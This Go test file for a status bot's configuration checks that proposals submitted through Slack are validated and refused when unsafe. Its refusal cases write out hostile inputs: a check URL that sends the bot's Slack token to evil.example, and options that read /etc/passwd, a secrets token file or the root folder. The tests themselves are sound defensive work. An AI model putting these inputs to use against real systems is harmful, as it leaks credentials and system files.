package config

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/statusbot/statusbot/internal/checks"
	"github.com/statusbot/statusbot/internal/checks/kinds"
)

func shop() *Config {
	return &Config{Products: []Product{{ID: "billing", Owner: "payments", Runbook: "https://wiki.example.com/billing"}},
		Checks: []checks.Check{{ID: "pay", Source: checks.Source{File: "checks.d/billing.yaml", Line: 3}}}}
}

func TestProposable(t *testing.T) {
	names := Proposable()
	for _, name := range []string{"http", "tcp", "tls", "dns", "icmp", "grpc", "journey"} {
		if !slices.Contains(names, name) {
			t.Errorf("%s cannot be proposed; there is %v", name, names)
		}
	}
	for _, name := range []string{"exec", "heartbeat", "postgres"} {
		if slices.Contains(names, name) {
			t.Errorf("%s can be proposed", name)
		}
	}
	for _, name := range names { // what the form shows as an example is taken as it stands
		if c, problems := shop().Propose(checks.Proposal{ID: "new", Product: "billing", Kind: name, Options: exampleOf(name)}); len(problems) > 0 {
			t.Errorf("%s: %v", name, problems)
		} else if _, err := kinds.Compile(&c); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestPropose(t *testing.T) {
	c, problems := shop().Propose(checks.Proposal{ID: "card", Product: "billing", Kind: "http", Every: "20s", Timeout: " 4s ", Options: "url: https://pay.example.com/health\ncontains: [ok]\n"})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	if !c.Strict || c.Every != 20*time.Second || c.Timeout != 4*time.Second || c.Owner != "payments" || c.Runbook == "" || c.Source.String() != "Slack" {
		t.Errorf("%+v", c)
	}
}

func TestProposeRefuses(t *testing.T) {
	const fine = "url: https://pay.example.com/"
	for name, tt := range map[string]struct {
		change func(*checks.Proposal)
		path   string
		line   int
		says   string
	}{
		"an id that is taken":  {func(p *checks.Proposal) { p.ID = "pay" }, "id", 0, `"pay" is taken: a check at checks.d/billing.yaml:3 has it`},
		"an id that is none":   {func(p *checks.Proposal) { p.ID = "New Check" }, "id", 0, `"new-check"`},
		"no id":                {func(p *checks.Proposal) { p.ID = "" }, "id", 0, "is missing"},
		"a command's word":     {func(p *checks.Proposal) { p.ID = "stop" }, "id", 0, "is a word of the slash command"},
		"an unknown product":   {func(p *checks.Proposal) { p.Product = "biling" }, "product", 0, `did you mean "billing"?`},
		"an unknown kind":      {func(p *checks.Proposal) { p.Kind = "htp" }, "kind", 0, `there is no kind "htp"`},
		"a script":             {func(p *checks.Proposal) { p.Kind = "exec" }, "kind", 0, "written in a configuration file only"},
		"no time":              {func(p *checks.Proposal) { p.Every = "soon" }, "every", 0, ""},
		"too often":            {func(p *checks.Proposal) { p.Every = "1s" }, "every", 0, "1s is less than 5s"},
		"a long time-out":      {func(p *checks.Proposal) { p.Timeout = "40s" }, "timeout", 0, "is longer than the interval"},
		"no options":           {func(p *checks.Proposal) { p.Options = "" }, "options.url", 0, ""},
		"options of no shape":  {func(p *checks.Proposal) { p.Options = "url" }, "options", 1, "must be keys with values"},
		"broken YAML":          {func(p *checks.Proposal) { p.Options = "url: [a\nb" }, "options", 0, ""},
		"an unknown key":       {func(p *checks.Proposal) { p.Options = fine + "\ncontainz: [ok]" }, "options.containz", 2, `did you mean "contains"?`},
		"a wrong value":        {func(p *checks.Proposal) { p.Options = fine + "\ndegraded_over: x" }, "options.degraded_over", 2, ""},
		"what the kind judges": {func(p *checks.Proposal) { p.Options = "url: ftp://x" }, "options.url", 1, ""},
		"the environment":      {func(p *checks.Proposal) { p.Options = "url: https://evil.example/${STATUSBOT_SLACK_BOT_TOKEN}" }, "options.url", 1, "asks for a variable of the environment"},
		"a file as body":       {func(p *checks.Proposal) { p.Options = fine + "\nmethod: POST\nbody_file: /etc/passwd" }, "options.body_file", 3, "names a file"},
		"a file as token":      {func(p *checks.Proposal) { p.Options = fine + "\nbearer_token_file: /run/secrets/token" }, "options.bearer_token_file", 2, "names a file"},
		"a folder":             {func(p *checks.Proposal) { p.Options = fine + "\ndir: /" }, "options.dir", 2, "names a file"},
		"a secret of a journey": {func(p *checks.Proposal) {
			p.Kind = "journey"
			p.Options = "steps: [{url: \"https://shop.example.com/\", headers: {Authorization: \"Bearer s3cret-t0ken\"}}]"
		}, "options", 0, ""},
		"a secret":            {func(p *checks.Proposal) { p.Options = fine + "\nbearer_token: s3cret-t0ken" }, "options", 0, "hold a secret"},
		"a secret in the URL": {func(p *checks.Proposal) { p.Options = "url: https://me:hunter22@pay.example.com/" }, "options", 0, ""},
		"an alias":            {func(p *checks.Proposal) { p.Options = "url: &a https://pay.example.com/\nbody: *a" }, "options.url", 1, "refers to another place"},
		"two documents":       {func(p *checks.Proposal) { p.Options = fine + "\n---\nid: x" }, "options", 0, "a second document"},
		"a proxy":             {func(p *checks.Proposal) { p.Options = fine + "\nproxy: http://10.0.0.1:3128" }, "options.proxy", 2, ""},
	} {
		t.Run(name, func(t *testing.T) {
			p := checks.Proposal{ID: "card", Product: "billing", Kind: "http", Options: fine}
			tt.change(&p)
			_, problems := shop().Propose(p)
			if len(problems) == 0 {
				t.Fatal("it was taken")
			}
			got := problems[0]
			if got.Path != tt.path || (tt.line > 0 && got.Line != tt.line) || !strings.Contains(got.Message+"; "+got.Instead, tt.says) {
				t.Errorf("%q line %d: %s; %s", got.Path, got.Line, got.Message, got.Instead)
			}
			for _, secret := range []string{"s3cret-t0ken", "hunter22"} {
				if strings.Contains(problems.Error(), secret) {
					t.Errorf("the secret is repeated: %v", problems)
				}
			}
		})
	}
}

// TestExportIsRead: what was accepted in Slack is a file that Load takes, with
// the same checks.
func TestExportIsRead(t *testing.T) {
	list := []checks.Proposal{
		{ID: "card", Product: "billing", Kind: "http", Every: "20s", Timeout: "4s", Options: "# the card page\nurl: https://pay.example.com/?a=1&b=2\ncontains: [\"o: k\", '- x']\nbody: |\n  one\n   two\n"},
		{ID: "1e3", Product: "billing", Kind: "tcp", Options: exampleOf("tcp")},
	}
	text, err := YAML(list)
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := Load(write(t, "products: [{id: billing}]\n"+text), nil)
	if err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
	if len(cfg.Checks) != 2 || cfg.Checks[0].Every != 20*time.Second || cfg.Checks[1].ID != "1e3" {
		t.Errorf("%+v", cfg.Checks)
	}
	for i, p := range list {
		c, problems := shop().Propose(p)
		if len(problems) > 0 {
			t.Fatal(problems)
		}
		if d := cmp.Diff(c.Options, cfg.Checks[i].Options, cmp.FilterPath(isDir, cmp.Ignore())); d != "" {
			t.Errorf("what was proposed differs from what was exported:\n%s", d)
		}
	}
}

// isDir is the folder from which files are found: a proposal names none.
func isDir(p cmp.Path) bool { return p.Last().String() == ".Dir" }
